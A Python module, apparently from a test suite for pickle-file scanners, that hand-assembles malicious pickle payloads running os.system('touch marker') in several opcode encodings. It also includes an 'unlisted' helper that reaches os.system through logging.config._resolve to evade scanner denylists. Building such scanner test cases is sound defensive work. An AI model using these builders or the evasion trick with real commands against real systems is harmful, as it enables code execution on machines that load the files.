"""What the techniques are written with: opcodes by name, and the list of techniques."""

import io
import struct
import zipfile

TECHNIQUES = {}


class Technique:
    def __init__(self, ident, about, loader, own, make):
        self.ident, self.about, self.loader, self.own, self.make = ident, about, loader, own, make

    def files(self):
        """Yields (file name, loader, bytes)."""
        made = self.make()
        for variant, data in (made if isinstance(made, dict) else {"": made}).items():
            loader, data = data if isinstance(data, tuple) else (self.loader, data)
            name = self.ident + ("." + variant if variant else "")
            yield name + ".bin", loader, data  # loaders go by content, and so must a scanner


def technique(ident, about, loader="pickle", own=False):
    """Registers a function that returns the bytes of a file, or a dict of
    variants; a variant may be (loader, bytes). own: in no public catalogue."""

    def register(make):
        assert ident not in TECHNIQUES, ident
        TECHNIQUES[ident] = Technique(ident, about, loader, own, make)
        return make

    return register


# Opcodes. Names are those of pickletools, in lower case.
MARK, STOP, POP, DUP, REDUCE, TUPLE, BUILD, NONE = b"(", b".", b"0", b"2", b"R", b"t", b"b", b"N"
EMPTY_TUPLE, EMPTY_LIST, EMPTY_DICT, TUPLE1, TUPLE2 = b")", b"]", b"}", b"\x85", b"\x86"
NEWOBJ, STACK_GLOBAL, MEMOIZE, OBJ, TRUE, FALSE = b"\x81", b"\x93", b"\x94", b"o", b"\x88", b"\x89"
SETITEMS, APPENDS, BINPERSID = b"u", b"e", b"Q"


def proto(n):
    return bytes([0x80, n])


def text(s):
    """BINUNICODE."""
    b = s.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(b)) + b


def short(s):
    """SHORT_BINUNICODE, of protocol 4."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def blob(b):
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(b)) + b


def num(n):
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


def name(module, member):
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + member.encode() + b"\n"


def stack_name(module, member):
    return short(module) + short(member) + STACK_GLOBAL


def tup(*items):
    return MARK + b"".join(items) + TUPLE


def dic(*items):
    """A dict: keys and values alternate."""
    return EMPTY_DICT + MARK + b"".join(items) + SETITEMS


def lst(*items):
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def apply(callee, *args):
    """REDUCE of what stands on the stack."""
    return callee + tup(*args) + REDUCE


def call(module, member, *args):
    return apply(name(module, member), *args)


def made(module, member, *state):
    """An object of a class, without calling __init__, with a state if one is given."""
    out = name(module, member) + EMPTY_TUPLE + NEWOBJ
    return out + state[0] + BUILD if state else out


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def get(i):
    return b"h" + bytes([i])


def put(i):
    return b"q" + bytes([i])


COMMAND = "touch marker"

# Every payload makes a file of that name in the current directory, and nothing else.
TOUCH = call("os", "system", text(COMMAND))
TOUCH0 = b"cos\nsystem\n(S'touch marker'\ntR"  # by opcodes of protocol 0
TOUCH4 = stack_name("os", "system") + short(COMMAND) + TUPLE1 + REDUCE


def pickled(body=TOUCH, n=2):
    return proto(n) + body + STOP


def unlisted(command=COMMAND):
    """Runs a command by a function that no list of dangerous ones has."""
    return apply(call("logging.config", "_resolve", text("os.system")), text(command))


def zipped(members, compression=zipfile.ZIP_STORED):
    """A zip archive of pairs of names and bytes, the same in every run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for member, data in members:
            z.writestr(zipfile.ZipInfo(member, (2020, 1, 1, 0, 0, 0)), data, compression)
    return out.getvalue()
